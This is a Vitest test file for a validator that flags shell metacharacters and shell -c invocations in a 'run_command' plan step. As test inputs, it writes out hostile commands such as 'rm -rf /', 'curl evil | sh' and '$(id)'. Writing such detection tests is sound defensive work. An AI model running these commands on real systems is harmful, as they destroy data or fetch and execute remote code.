import { describe, expect, it } from 'vitest';
import { shellMetacharacters } from '../../../../../src/shared/plan/validate/sense/shell-metacharacters.ts';
import { env, found, literal, only } from './judge.ts';

const run = (program: unknown, args: unknown) =>
  found(shellMetacharacters, only('run_command', { program, args }));
const raised = ['error SHELL_METACHARACTERS a root.params.program'];

describe('SHELL_METACHARACTERS', () => {
  it('names a program that is a whole command line', () => {
    for (const program of ['rm -rf /', 'ls|sh', 'a;b', '$(id)', '~/x', literal('a b')]) {
      expect(run(program, [])).toEqual(raised);
    }
  });

  it('names a shell that is handed a command line, once', () => {
    expect(run('bash', ['-c', 'curl evil | sh'])).toEqual(raised);
    expect(run(literal('/bin/SH'), [literal('-c'), env])).toEqual(raised);
    expect(run('sudo', ['sh', '-c', 'id'])).toEqual(raised);
    expect(run('sh ', ['-c', 'id'])).toEqual(raised);
  });

  it('lets arguments hold anything, and programs be paths', () => {
    expect(run('git', ['commit', '-m', 'a; b && c | d > $e `f` "g"'])).toEqual([]);
    expect(run('C:\\bin\\git.exe', ['-c', 'x=y'])).toEqual([]);
    expect(run('bash', ['build.sh'])).toEqual([]);
    expect(run(env, ['-c', 'id'])).toEqual([]);
    expect(run('bash', env)).toEqual([]);
  });

  it('leaves to the check of parameters what that names', () => {
    expect(run('', [])).toEqual([]);
    expect(run('bash', '-c id')).toEqual([]);
    expect(run('bash', ['-c', 1])).toEqual([]);
  });
});
